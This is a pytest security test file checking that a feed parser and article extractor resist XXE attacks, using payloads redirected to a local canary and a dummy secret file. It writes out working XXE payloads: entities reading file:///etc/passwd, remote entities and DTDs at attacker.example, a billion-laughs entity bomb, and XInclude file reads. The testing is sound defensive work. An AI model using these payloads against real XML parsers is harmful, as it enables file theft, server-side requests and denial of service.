"""XXE: every document of the shared corpus fed to the feed parser and to the extractor.

Remote hosts in the payloads are rewritten to a canary on 127.0.0.1 and file references to a
file holding a secret, so that a parser which fetched or read anything would be caught: the
canary counts connections, the secret would show in the output, and an audit hook records any
open() of the secret or socket connection made from Python. Each document must be rejected
(InputError / ExtractionError) or parsed without entity expansion: nothing fetched, nothing
read, and no output larger than the document itself could give.
"""

from __future__ import annotations

import re
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from nutgraf.engine.errors import NutgrafError
from nutgraf.engine.extract import extract_article
from nutgraf.engine.feeds import parse_feed
from nutgraf.engine.records import Source
from tests.conftest import bench_dir
from tests.security.conftest import Server

XXE_DIR = bench_dir() / "security" / "xxe"
SECRET = "nutgraf-secret-7f3a9c"
LAUGHS = "dos" * 1000  # ten thousand "dos" would mean the bomb went off

_REMOTE = re.compile(r"(?:https?|ftp)://[^\s\"'<>/]+", re.IGNORECASE)
_SYSTEM_LITERAL = re.compile(r"""(SYSTEM|PUBLIC)(\s+)(["'])(.*?)\3""", re.IGNORECASE | re.DOTALL)

_audit: dict[str, list[str] | None] = {"events": None}


def _hook(event: str, args: tuple[object, ...]) -> None:
    events = _audit["events"]
    if events is None:
        return
    if event == "open" and args and SECRET in str(args[0]):
        events.append(f"open {args[0]}")
    elif event == "socket.connect":
        events.append(f"connect {args[1:]}")


sys.addaudithook(_hook)


def corpus() -> list[tuple[str, str]]:
    """(name, document) for every file; the .txt lists hold one document per line."""
    if not XXE_DIR.is_dir():
        return []
    documents = []
    for path in sorted(XXE_DIR.iterdir()):
        if path.name in ("LICENSE", "SOURCE.md"):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if path.suffix == ".txt":
            lines = [line for line in text.splitlines() if line.strip()]
            documents += [(f"{path.name}:{n}", line) for n, line in enumerate(lines, start=1)]
        else:
            documents.append((path.name, text))
    return documents


def rss_wrapped() -> list[tuple[str, str]]:
    """The same attacks shaped as the feeds a subscriber would send."""
    dtd = (
        '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">'
        '<!ENTITY remote SYSTEM "http://attacker.example/x">'
        '<!ENTITY a0 "dos"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;">'
        '<!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;">'
        '<!ENTITY a3 "&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;">]>'
    )
    rss = (
        '<?xml version="1.0"?>{dtd}<rss version="2.0"><channel><title>&file;</title>'
        "<item><title>&remote;</title><link>http://attacker.example/a</link>"
        "<description>&a3;</description></item></channel></rss>"
    )
    atom = (
        '<?xml version="1.0"?>{dtd}<feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>&file;</title><entry><title>&remote;</title><content>&a3;</content></entry></feed>"
    )
    external = (
        '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://attacker.example/feed.dtd">'
        "<rss><channel><item><title>&send;</title></item></channel></rss>"
    )
    xinclude = (
        '<?xml version="1.0"?><rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item>'
        '<title><xi:include parse="text" href="file:///etc/passwd"/></title></item></channel></rss>'
    )
    return [
        ("rss-dtd", rss.format(dtd=dtd)),
        ("atom-dtd", atom.format(dtd=dtd.replace("rss [", "feed ["))),
        ("rss-external-dtd", external),
        ("rss-xinclude", xinclude),
    ]


DOCUMENTS = corpus() + rss_wrapped()


def aimed(document: str, canary: Server, secret_file: Path) -> str:
    """The document with remote hosts pointed at the canary and file references at the secret."""

    def literal(match: re.Match[str]) -> str:
        keyword, space, quote, value = match.groups()
        if _REMOTE.match(value):
            value = _REMOTE.sub(canary.base, value, count=1)
        elif not re.match(r"(?:data|php|expect|jar|netdoc|gopher):", value, re.IGNORECASE):
            value = secret_file.as_uri()  # file:///..., /etc/passwd, ../../boot.ini, robots.txt
        return f"{keyword}{space}{quote}{value}{quote}"

    document = _SYSTEM_LITERAL.sub(literal, document)
    document = _REMOTE.sub(canary.base, document)
    return re.sub(r"file:/{2,4}[^\s\"'<>]*", secret_file.as_uri(), document)


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\nroot:x:0:0:root:/root:/bin/bash\n")
    return path


@pytest.fixture
def audited() -> Iterator[list[str]]:
    events: list[str] = []
    _audit["events"] = events
    try:
        yield events
    finally:
        _audit["events"] = None


def test_the_corpus_is_there() -> None:
    if not XXE_DIR.is_dir():
        pytest.skip(f"no XXE corpus at {XXE_DIR}")
    assert len(DOCUMENTS) >= 60


def _check(output: str, document: bytes, canary: Server, events: list[str]) -> None:
    # An expanded entity multiplies its text; unexpanded, what comes out is at most what went
    # in (plus the record's field names).
    assert len(output) <= len(document) + 2000, len(output)
    assert SECRET not in output and "root:x:0:0" not in output
    assert LAUGHS not in output
    assert canary.connections == []
    assert events == []


@pytest.mark.parametrize(("name", "document"), DOCUMENTS, ids=[n for n, _ in DOCUMENTS])
def test_feed_parser_stays_inert(
    name: str, document: str, canary: Server, secret_file: Path, audited: list[str]
) -> None:
    content = aimed(document, canary, secret_file).encode("utf-8")
    try:
        items = parse_feed(content)
    except NutgrafError:
        output = ""
    else:
        output = repr(items)
    _check(output, content, canary, audited)


@pytest.mark.parametrize(("name", "document"), DOCUMENTS, ids=[n for n, _ in DOCUMENTS])
def test_extractor_stays_inert_on_xml_served_as_a_page(
    name: str, document: str, canary: Server, secret_file: Path, audited: list[str]
) -> None:
    content = aimed(document, canary, secret_file).encode("utf-8")
    # FETCHED_TYPES reads application/xml and the feed types as HTML: that is the path taken.
    source = Source(location="https://feed.example/x", content=content, media_type="text/html")
    try:
        article = extract_article(source)
    except NutgrafError:
        output = ""
    else:
        output = repr(article)
    _check(output, content, canary, audited)


def test_aiming_really_points_payloads_at_the_canary(canary: Server, secret_file: Path) -> None:
    document = '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/a"><!ENTITY y SYSTEM "../etc/passwd">]>'
    out = aimed(document, canary, secret_file)
    assert f"{canary.base}/a" in out and secret_file.as_uri() in out
    assert "evil.example" not in out and "../etc" not in out
